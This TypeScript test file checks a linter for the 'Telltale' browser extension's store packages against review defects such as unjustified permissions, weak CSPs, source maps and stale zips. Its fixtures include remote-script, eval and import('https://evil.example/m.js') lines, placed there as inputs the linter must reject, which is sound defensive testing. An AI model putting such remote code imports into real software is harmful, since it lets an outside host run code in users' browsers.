/**
 * The store package lint (scripts/lint-package.mjs, scripts/lib/package-lint/): a clean package
 * made in memory passes, and each kind of defect a store review would reject fails it, through
 * the library and through the command on a real folder and zip.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { PNG } from 'pngjs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  checkSize,
  compareZipToBuild,
  lintPackage,
} from '../../../scripts/lib/package-lint/index.mjs';
import { readZip } from '../../../scripts/lib/zip.mjs';
import { writeZip } from './zip-writer';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const text = (s: string) => new TextEncoder().encode(s);

const DOC = `# Permissions
- \`storage\`: settings in storage.local.
- \`offscreen\`: the analysis runs in an offscreen document.
- \`https://*/*\`: the content script finds videos on https pages.
- \`frame-bridge.html\`: the frame bridge content scripts embed.
`;

const ORT_SNIPPET =
  'n=Function(Object.keys(o),s)(...Object.values(o)),s=`methodCaller<(${i.map(e=>e.name)}) => ${r.name}>`';
/** wasm-bindgen's debugString() (the C2PA reader): a template literal, not a call. */
const BINDGEN_SNIPPET =
  'if(e=="function"){const _=r.name;return typeof _=="string"&&_.length>0?`Function(${_})`:"Function"}';

function icon(size: number): Uint8Array {
  return new Uint8Array(PNG.sync.write(new PNG({ width: size, height: size })));
}

function manifest(patch: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    manifest_version: 3,
    name: '__MSG_extName__',
    description: '__MSG_extDescription__',
    version: '0.1.0',
    default_locale: 'en',
    icons: { 16: 'icon/16.png', 32: 'icon/32.png', 48: 'icon/48.png', 128: 'icon/128.png' },
    permissions: ['offscreen', 'storage'],
    host_permissions: ['https://*/*'],
    content_security_policy: {
      extension_pages:
        "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'; connect-src 'self'",
    },
    web_accessible_resources: [{ resources: ['frame-bridge.html'], matches: ['https://*/*'] }],
    background: { service_worker: 'background.js' },
    action: { default_title: '__MSG_extName__', default_popup: 'popup.html' },
    content_scripts: [{ matches: ['https://*/*'], js: ['content-scripts/video.js'] }],
    ...patch,
  };
}

function messages(description = 'Spots deepfake video on your device.') {
  return JSON.stringify({
    extName: { message: 'Telltale' },
    extDescription: { message: description },
  });
}

/** A package the lint accepts. */
function goodPackage(): Map<string, Uint8Array> {
  const files = new Map<string, Uint8Array>([
    ['manifest.json', text(JSON.stringify(manifest()))],
    ['_locales/en/messages.json', text(messages())],
    ['background.js', text('chrome.runtime.onInstalled.addListener(() => {});')],
    ['content-scripts/video.js', text('document.querySelectorAll("video");')],
    ['popup.html', text('<script type="module" src="/chunks/popup.js"></script>')],
    ['chunks/popup.js', text(`export const a = 1;${BINDGEN_SNIPPET}`)],
    ['frame-bridge.html', text('<script type="module" src="/chunks/bridge.js"></script>')],
    ['chunks/bridge.js', text(`const x = 1;${ORT_SNIPPET}`)],
  ]);
  for (const size of [16, 32, 48, 128]) files.set(`icon/${size}.png`, icon(size));
  return files;
}

const withManifest = (patch: Record<string, unknown>) =>
  goodPackage().set('manifest.json', text(JSON.stringify(manifest(patch))));
const errors = (files: Map<string, Uint8Array>, doc: string | null = DOC) =>
  lintPackage(files, { permissionsDoc: doc })
    .filter((f) => f.level === 'error')
    .map((f) => f.message);

describe('lintPackage', () => {
  it('passes a clean package and notes the allowed library Function()', () => {
    const findings = lintPackage(goodPackage(), { permissionsDoc: DOC });
    expect(findings.filter((f) => f.level !== 'note')).toEqual([]);
    expect(findings).toHaveLength(2);
    expect(findings).toEqual(
      expect.arrayContaining([
        { level: 'note', message: expect.stringContaining('ort-embind-method-caller') },
        { level: 'note', message: expect.stringContaining('wasm-bindgen-debug-string') },
      ]),
    );
  });

  it('fails a permission, host permission or resource that permissions.md does not justify', () => {
    const got = errors(
      withManifest({
        permissions: ['offscreen', 'storage', 'downloads'],
        host_permissions: ['https://*/*', '<all_urls>'],
      }),
    );
    expect(got).toEqual([
      'permission downloads is not justified in docs/permissions.md',
      'host permission <all_urls> is not justified in docs/permissions.md',
    ]);
    expect(errors(goodPackage(), DOC.replace(/- `storage`: .*\n/, '- `storage`: yes\n'))).toEqual([
      'permission storage: docs/permissions.md gives no real reason ("yes")',
    ]);
    expect(errors(goodPackage(), null)).toEqual(['docs/permissions.md is missing']);
  });

  it('fails remote and inline scripts, remote imports and eval in our bundles', () => {
    const files = goodPackage()
      .set(
        'popup.html',
        text('<script src="https://cdn.example.com/x.js"></script><script>go()</script>'),
      )
      .set('chunks/popup.js', text('const f = eval("1");\nimport("https://evil.example/m.js");'))
      .set('assets/style.css', text('body { background: url(//cdn.example.com/a.png) }'));
    expect(errors(files)).toEqual([
      'popup.html:1: remote <script src>',
      'popup.html:1: inline <script> (MV3 refuses it)',
      'chunks/popup.js:1: eval( (dynamic code; allow it in allowlist.mjs only with a reason)',
      'chunks/popup.js:2: remote import()',
      'assets/style.css:1: remote url()',
    ]);
    // The allow rule is bound to the library's own code, not to any Function().
    const plain = goodPackage().set('chunks/bridge.js', text('new Function("return 1")();'));
    expect(errors(plain)).toEqual([
      'chunks/bridge.js:1: Function( (dynamic code; allow it in allowlist.mjs only with a reason)',
    ]);
    expect(lintPackage(plain, { permissionsDoc: DOC })).toContainEqual({
      level: 'warning',
      message: 'allow rule ort-embind-method-caller matched nothing: remove it',
    });
  });

  it('fails manifest version 2, missing strings and a description over 132 characters', () => {
    expect(errors(withManifest({ manifest_version: 2, name: '' }))).toEqual([
      'manifest_version is 2, not 3',
      'manifest name is missing',
    ]);
    const long = goodPackage().set('_locales/en/messages.json', text(messages('x'.repeat(133))));
    expect(errors(long)).toEqual([
      expect.stringMatching(/^manifest description \(en\) has 133 characters, more than 132/),
    ]);
    expect(errors(withManifest({ description: '__MSG_nope__' }))).toEqual([
      'manifest description: __MSG_nope__ is not defined in the default locale',
    ]);
    expect(errors(withManifest({ default_locale: undefined }))).toEqual([
      'manifest default_locale is missing',
    ]);
  });

  it('fails missing, misnamed and wrongly sized icons and files the manifest names', () => {
    const files = goodPackage().set('icon/128.png', icon(96)).set('icon/32.png', text('GIF89a'));
    files.delete('icon/48.png');
    files.delete('background.js');
    expect(errors(files)).toEqual([
      'icon 32: icon/32.png is not a PNG',
      'icon 48: icon/48.png is not in the package',
      'icon 128: icon/128.png is 96x96',
      'manifest background.service_worker: background.js is not in the package',
    ]);
    expect(errors(withManifest({ icons: { 128: 'icon/128.png' } }))).toHaveLength(3);
  });

  it('fails a CSP that allows remote or dynamic script, or the network', () => {
    const csp = (extension_pages: string) =>
      withManifest({ content_security_policy: { extension_pages } });
    expect(
      errors(csp("script-src 'self' 'unsafe-eval' https://cdn.example.com; connect-src 'self'")),
    ).toEqual([
      "content_security_policy.extension_pages script-src allows 'unsafe-eval' (remote or dynamic script)",
      'content_security_policy.extension_pages script-src allows https://cdn.example.com (remote or dynamic script)',
    ]);
    expect(errors(csp("script-src 'self'; connect-src 'self' https:"))).toEqual([
      'content_security_policy.extension_pages connect-src allows https:: the network (docs/privacy.md says nothing leaves the device)',
    ]);
    expect(errors(csp("script-src 'self'"))).toEqual([
      expect.stringContaining('has no connect-src'),
    ]);
  });

  it('fails source maps, sources and paths outside the package', () => {
    const files = goodPackage()
      .set('chunks/popup.js.map', text('{}'))
      .set('chunks/popup.js', text('export {};\n//# sourceMappingURL=popup.js.map'))
      .set('lib/a.ts', text(''))
      .set('../escape.js', text(''));
    expect(errors(files)).toEqual([
      'chunks/popup.js.map: a source map, not build output',
      'lib/a.ts: a source file, not build output',
      '../escape.js: path outside the package',
      'chunks/popup.js:2: sourceMappingURL (source maps do not ship)',
    ]);
  });

  it('fails a zip that is not the build, and one over the size limit', () => {
    const build = goodPackage();
    const zip = readZip(
      writeZip(goodPackage().set('background.js', text('old')).set('x.txt', text(''))),
    );
    expect(compareZipToBuild(zip, build).map((f) => f.message)).toEqual([
      'background.js: differs from the build (stale zip? run npm run zip)',
      'x.txt: in the zip but not in the build',
    ]);
    expect(compareZipToBuild(readZip(writeZip(build)), build)).toEqual([]);
    expect(checkSize(61e6, 60e6)).toEqual({
      level: 'error',
      message: 'the zip is 61.0 MB, over the 60.0 MB limit',
    });
    expect(checkSize(20e6, 60e6).level).toBe('note');
  });
});

describe('scripts/lint-package.mjs', () => {
  let dir = '';
  beforeEach(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'telltale-package-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  /** Writes `files` as a build folder and its zip; runs the command on both. */
  function lint(files: Map<string, Uint8Array>, ...args: string[]) {
    for (const [name, bytes] of files) {
      mkdirSync(path.dirname(path.join(dir, 'build', name)), { recursive: true });
      writeFileSync(path.join(dir, 'build', name), bytes);
    }
    writeFileSync(path.join(dir, 'ext-chrome.zip'), writeZip(files));
    writeFileSync(path.join(dir, 'permissions.md'), DOC);
    const run = spawnSync(
      process.execPath,
      [
        'scripts/lint-package.mjs',
        path.join(dir, 'build'),
        path.join(dir, 'ext-chrome.zip'),
        '--permissions',
        path.join(dir, 'permissions.md'),
        ...args,
      ],
      { cwd: ROOT, encoding: 'utf8' },
    );
    return { status: run.status, out: run.stdout + run.stderr };
  }

  it('exits 0 on a clean package and reports the zip size', () => {
    const { status, out } = lint(goodPackage());
    expect(out).toMatch(/note: zip size 0\.0 MB \(\d+ bytes; limit 60\.0 MB\)/);
    expect(status).toBe(0);
  });

  it('exits 1 on an unjustified permission and a remote script, naming both', () => {
    const bad = withManifest({ permissions: ['offscreen', 'storage', 'history'] }).set(
      'popup.html',
      text('<script src="http://example.com/a.js"></script>'),
    );
    const { status, out } = lint(bad);
    expect(out).toContain('error: permission history is not justified in docs/permissions.md');
    expect(out).toContain('error: popup.html:1: remote <script src>');
    expect(status).toBe(1);
  });

  it('exits 1 when the zip is over --max-mb', () => {
    const { status, out } = lint(goodPackage(), '--max-mb', '0.001');
    expect(out).toMatch(/error: the zip is 0\.0 MB, over the 0\.0 MB limit/);
    expect(status).toBe(1);
  });
});
